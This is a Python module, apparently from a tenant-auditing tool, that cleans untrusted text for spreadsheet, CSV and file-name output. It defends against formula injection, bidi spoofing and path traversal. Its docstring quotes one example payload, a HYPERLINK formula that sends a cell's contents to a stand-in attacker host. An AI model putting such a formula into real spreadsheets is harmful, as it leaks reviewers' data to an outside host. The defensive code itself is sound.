"""Neutralise tenant-controlled text before it lands in a spreadsheet cell (Excel or CSV).

Why this exists: every string in a report comes from the audited tenant (display names, job titles,
named-location names, ...) and anyone who can edit a user in that tenant controls it. A spreadsheet
application treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula — and tab or
carriage return are used to smuggle one past naive checks — so a display name such as
``=HYPERLINK("https://evil.example/?"&A1, "click")`` would run in the reviewer's Excel ("CSV/formula
injection", OWASP). openpyxl even turns any string starting with ``=`` into a real formula.

* CSV has no cell styles: :func:`neutralise` prefixes such values with an apostrophe, which every
  spreadsheet shows as literal text.
* The workbook writes every string as an inline string (never a formula) and gives a cell that starts with
  one of those characters the *quote-prefix* style (``auditor.render.xlsx_stream``), Excel's own mark for
  "text that looks like a formula": the reviewer sees the original text, without an apostrophe, and
  editing the cell keeps it text. :func:`cell_value` therefore only cleans (:func:`clean`).

Both drop the control characters XML cannot hold (a workbook would otherwise be unreadable).

Only strings are touched: numbers, booleans and dates the renderer itself produced stay typed.

Bidirectional overrides (U+202A-U+202E, U+2066-U+2069) let a display name show reversed text (an
``exe.txt`` that reads ``txt.exe``); :func:`visible` replaces them, NUL and the other control
characters with a visible ``[U+202E]`` marker for any report format (HTML, e-mail, JSON text);
spreadsheet cells get the same bidi markers from :func:`clean` (and so :func:`neutralise`).
"""

from __future__ import annotations

import re
from datetime import UTC, date, datetime
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")  # the first characters a spreadsheet may evaluate
# Characters that are illegal in XML 1.0 (same set openpyxl rejects), except tab/LF/CR.
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
MAX_CELL_CHARS = 32_000  # Excel's hard limit is 32,767 characters per cell
_UNSAFE_NAME = re.compile(r"[^A-Za-z0-9_.-]+")
_BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")
_INVISIBLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069]")


def _marker(match: re.Match[str]) -> str:
    return f"[U+{ord(match.group()):04X}]"


def visible(value: str) -> str:
    """``value`` with NUL, control characters and bidirectional overrides shown as ``[U+XXXX]`` markers.

    Tab, line feed and carriage return are kept (callers that need one line handle those).
    """
    return _INVISIBLE.sub(_marker, value)


def visible_deep(value: Any) -> Any:
    """``visible`` over every string inside lists and dicts (keys too); other values unchanged."""
    if isinstance(value, str):
        return visible(value) if _INVISIBLE.search(value) else value
    if isinstance(value, list | tuple):
        return [visible_deep(v) for v in value]
    if isinstance(value, dict):
        return {visible_deep(k): visible_deep(v) for k, v in value.items()}
    return value


def one_line(value: object) -> str:
    """``visible`` text on one line: line breaks (and runs of whitespace) become single spaces."""
    return " ".join(visible(str(value)).split())


def file_component(value: object, default: str = "tenant", limit: int = 64) -> str:
    """``value`` as one harmless file or folder name: no separators, no ``..``, no leading dot or dash.

    Tenant names normally match the config pattern already; a name read from a snapshot file or the
    command line may not, and must never steer a path outside the report folder.
    """
    text = _UNSAFE_NAME.sub("_", str(value or "")).lstrip(".-_")[:limit]
    return text or default


def clean(value: str) -> str:
    """``value`` as spreadsheet cell text: XML-illegal control characters dropped, bidirectional overrides
    shown as ``[U+XXXX]`` markers, cut at Excel's cell limit. A leading ``=`` stays (see :func:`cell_value`)."""
    value = _BIDI.sub(_marker, _ILLEGAL.sub("", value))
    if len(value) > MAX_CELL_CHARS:
        value = value[: MAX_CELL_CHARS - 1] + "…"
    return value


def neutralise(value: str) -> str:
    """Return ``value`` as CSV text a spreadsheet will never evaluate as a formula (apostrophe prefix)."""
    value = clean(value)
    if value.startswith(FORMULA_PREFIXES):
        value = "'" + value
        if len(value) > MAX_CELL_CHARS:
            value = value[: MAX_CELL_CHARS - 1] + "…"
    return value


def cell_value(value: Any) -> Any:
    """Make any value writable as a workbook cell (``auditor.render.xlsx_stream``).

    Strings are cleaned (:func:`clean`); the writer marks one that starts like a formula with the
    quote-prefix style, so it is never evaluated. Naive/aware datetimes become naive UTC (Excel has no time zones);
    lists are joined with ", "; None stays empty; other objects become cleaned text.
    """
    if type(value) is str:  # the common case first: this runs once per spreadsheet cell
        return clean(value)
    if value is not None and type(value).__module__ == "numpy":
        value = value.item()  # numpy scalar (from a pandas table) -> Python value
    if value is None or isinstance(value, bool | int | float):
        if isinstance(value, float) and value != value:  # NaN
            return None
        return value
    if isinstance(value, datetime):
        if value != value:  # pandas NaT
            return None
        if value.tzinfo is not None:
            value = value.astimezone(UTC).replace(tzinfo=None)
        return value.to_pydatetime() if hasattr(value, "to_pydatetime") else value
    if isinstance(value, date):
        return value
    if isinstance(value, str):
        return clean(value)
    if isinstance(value, list | tuple | set | frozenset):
        return clean(", ".join(str(v) for v in value if v is not None))
    return clean(str(value))
